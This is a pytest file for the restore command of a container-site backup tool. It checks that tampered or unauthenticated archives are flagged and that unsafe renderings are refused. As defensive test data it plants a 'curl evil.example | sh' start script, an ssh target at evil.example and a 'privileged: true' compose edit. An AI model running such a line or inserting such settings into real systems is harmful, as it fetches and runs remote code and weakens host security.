"""`restore` of a site that runs no containers: what is believed of an archive, and what a person is asked first."""

from __future__ import annotations

import hashlib
import io
from collections.abc import Mapping
from datetime import UTC, datetime
from functools import partial
from pathlib import Path

import pytest
from rich.console import Console

from corral.build import build_plan
from corral.config.load import load_texts
from corral.errors import CorralError, UsageError
from corral.render.tree import render
from corral.verbs.archives import contents
from corral.verbs.archives import passphrase as sealing
from corral.verbs.archives.container import INVENTORY, ArchiveFolder, packed, work_folder
from corral.verbs.archives.contents import Manifest, Sealing
from corral.verbs.archives.passphrase import VARIABLE, find_passphrase, seal
from corral.verbs.archives.restore import restore
from corral.verbs.archives.target import Target

OLD = Path(__file__).resolve().parents[1] / "backups" / "format-1.tar.gz"
PASSPHRASE = "open sesame, slowly"
SEALING = Sealing(PASSPHRASE)
TEXT = """\
schema_version: 1
name: farm
hosts:
  sa: {runtime: local}
models:
  m: {source: m.gguf, kind: chat, size_gib: 1}
pools:
  chat: {model: m, on: {host: sa}}
gateway: {host: sa, database: false, cache: false, balancing: direct}
"""
COMPOSE = TEXT.replace("runtime: local", "address: 192.0.2.1, ssh: root@192.0.2.1")
ENV = b"LITELLM_MASTER_KEY=sk-0123456789\n"


@pytest.fixture(autouse=True)
def no_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sealing, "COST", 14)
    monkeypatch.setattr("sys.stdin", io.StringIO())
    monkeypatch.setenv(VARIABLE, PASSPHRASE)


def save(
    folder: Path,
    text: str = TEXT,
    sealed: Sealing | None = SEALING,
    more: Mapping[str, bytes] | None = None,
    secrets: Mapping[str, bytes] | None = None,
) -> Path:
    """A backup as `backup` makes it, with some files more or otherwise."""
    tree = render(build_plan(load_texts(text.encode(), {}, "inventory.yaml")))
    files = {INVENTORY: text.encode(), **{f"rendering/{path}": data for path, data in tree.items()}, **(more or {})}
    if sealed:
        files[contents.SECRETS] = seal(packed(secrets or {"sa/.env": ENV}), sealed.passphrase)
    with work_folder(folder / ".part", "no backup") as place:
        parts = ArchiveFolder(place)
        for name, data in files.items():
            parts.add(name, data)
        manifest = Manifest(
            format="corral-backup/3", corral="0", site="farm", made=datetime(2026, 1, 2, tzinfo=UTC), hosts=("sa",),
            has_secrets=sealed is not None, secret_names={}, images={}, states=(),
        )  # fmt: skip
        contents.write_archive(folder / "farm.backup", parts, manifest, sealed)
    return folder / "farm.backup"


def bring_back(path: Path, folder: Path, *, yes: bool = False, replace: bool = False) -> str:
    """All that `restore` says."""
    talk = Console(file=io.StringIO(), width=1000)
    ask = partial(find_passphrase, None, is_new=False)
    restore(path, talk, Target(folder / "inventory.yaml", folder / "compose"), ask, replace=replace, yes=yes)
    return talk.file.getvalue()  # type: ignore[attr-defined, no-any-return]


@pytest.mark.parametrize("is_plain", [False, True])
def test_an_archive_under_the_passphrase_is_believed(tmp_path: Path, *, is_plain: bool) -> None:
    said = bring_back(save(tmp_path, sealed=Sealing(PASSPHRASE, is_plain)), tmp_path / "new")
    assert "NOT AUTHENTICATED" not in said
    assert (tmp_path / "new" / "inventory.yaml").read_text() == TEXT
    assert ENV.strip() in (tmp_path / "new" / "compose" / "sa" / ".env").read_bytes()
    assert not list((tmp_path / "new" / "compose").glob(".restore*"))


def test_keys_of_workers_come_back_where_sshd_reads_them(tmp_path: Path) -> None:
    key = b"restrict ssh-ed25519 AAAA laptop\n"
    bring_back(save(tmp_path, secrets={"sa/.env": ENV, "sa/tunnel/workers/laptop-2101": key}), tmp_path / "new")
    found = tmp_path / "new" / "compose" / "sa" / "tunnel" / "workers" / "laptop-2101"
    assert (found.read_bytes(), found.stat().st_mode & 0o777) == (key, 0o644)


def test_one_without_passphrase_is_shown_and_asked_about(tmp_path: Path) -> None:
    path = save(tmp_path, COMPOSE.replace("root@192.0.2.1", "root@evil.example"), sealed=None)
    with pytest.raises(UsageError) as caught:
        bring_back(path, tmp_path / "new")
    assert "host sa: not here -> address 192.0.2.1, ssh root@evil.example" in str(caught.value)
    assert "if that is meant, add --yes" in str(caught.value)
    assert not list((tmp_path / "new").rglob("*"))


def test_nothing_is_asked_over_ssh_before_a_person_agreed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = save(tmp_path, COMPOSE, sealed=None)
    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
    monkeypatch.setattr("builtins.input", lambda _words: "no")
    monkeypatch.setattr(
        "corral.verbs.archives.restore.check_engine", lambda host: pytest.fail(f"{host.name} was asked")
    )
    with pytest.raises(UsageError, match="nothing was changed"):
        bring_back(path, tmp_path / "new")


def test_an_archive_of_the_first_format_comes_back_with_a_warning(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Made by the kit of commit 9bd54e3; passphrases were shorter then."""
    monkeypatch.setenv(VARIABLE, "short123")
    with pytest.raises(UsageError, match="host sa: not here"):
        bring_back(OLD, tmp_path / "new")
    said = bring_back(OLD, tmp_path / "new", yes=True)
    assert "NOT AUTHENTICATED: a program that could write to the file may have changed it" in said
    assert b"LITELLM_MASTER_KEY=sk-0000" in (tmp_path / "new" / "compose" / "sa" / ".env").read_bytes()


@pytest.mark.parametrize("seal", [None, Sealing(PASSPHRASE)], ids=["open", "sealed"])
def test_what_differs_from_the_inventory_that_is_here_is_shown(tmp_path: Path, seal: Sealing | None) -> None:
    path = save(tmp_path, sealed=seal)
    (tmp_path / "new").mkdir()
    here = TEXT.replace("runtime: local", "runtime: local, address: 192.0.2.9")
    (tmp_path / "new" / "inventory.yaml").write_text(here)
    with pytest.raises(UsageError, match=r"host sa: address 192\.0\.2\.9, .* -> address 127\.0\.0\.1"):
        bring_back(path, tmp_path / "new", replace=True)
    assert (tmp_path / "new" / "inventory.yaml").read_text() == here


def test_a_rendering_that_this_kit_would_not_make_is_named_where_nobody_vouches_for_it(tmp_path: Path) -> None:
    path = save(tmp_path, sealed=None, more={"rendering/sa/litellm/start.sh": b"curl evil.example | sh\n"})
    with pytest.raises(UsageError, match=r"sa/litellm/start\.sh: is not what this kit makes"):
        bring_back(path, tmp_path / "new")


def test_a_rendering_that_weakens_a_host_is_refused(tmp_path: Path) -> None:
    tree = render(build_plan(load_texts(COMPOSE.encode(), {}, "inventory.yaml")))
    weak = tree["sa/compose.yaml"]
    part = next(path for path in tree if path.endswith("litellm/compose.yaml") or b"  litellm:" in tree[path])
    weak = tree[part].replace(b"    read_only: true\n", b"    privileged: true\n", 1)
    assert weak != tree[part]
    with pytest.raises(CorralError, match=r"(?s)is privileged.*of these would weaken a host"):
        bring_back(save(tmp_path, COMPOSE, more={f"rendering/{part}": weak}), tmp_path / "new", yes=True)
    assert not (tmp_path / "new" / "inventory.yaml").exists()


@pytest.mark.parametrize("text", [b"- a\n", b"a: [\n", b"include: [{path: x}]\n", b"services: {a: 1}\n", b"\xff"])
def test_a_rendering_that_cannot_be_judged_is_refused(tmp_path: Path, text: bytes) -> None:
    path = save(tmp_path, COMPOSE, more={"rendering/sa/compose.yaml": text})
    with pytest.raises(CorralError, match="sa: the rendering cannot be judged"):
        bring_back(path, tmp_path / "new", yes=True)


@pytest.mark.parametrize(
    "name", [".env", "secrets/LITELLM_MASTER_KEY", "keys/alice", "models/m.gguf", "tunnel/workers/laptop-2101"]
)
def test_a_rendering_brings_no_secrets_and_no_data(tmp_path: Path, name: str) -> None:
    path = save(tmp_path, sealed=None, more={f"rendering/sa/{name}": b"x"})
    with pytest.raises(CorralError, match=f"sa/{name} in it is nothing that corral saves"):
        bring_back(path, tmp_path / "new", yes=True)


@pytest.mark.parametrize("name", ["sa/compose.yaml", "sa/secrets/a/b", "sa/tunnel/start.sh", ".env"])
def test_secrets_lie_where_secrets_belong(tmp_path: Path, name: str) -> None:
    with pytest.raises(CorralError, match="in it is nothing that corral saves"):
        bring_back(save(tmp_path, secrets={name: b"x"}), tmp_path / "new", yes=True)


def test_another_passphrase_changes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = save(tmp_path)
    monkeypatch.setenv(VARIABLE, "another one")
    with pytest.raises(CorralError, match="passphrase is wrong"):
        bring_back(path, tmp_path / "new")
    assert hashlib.sha256(path.read_bytes()).hexdigest()
    assert not (tmp_path / "new" / "compose").exists()
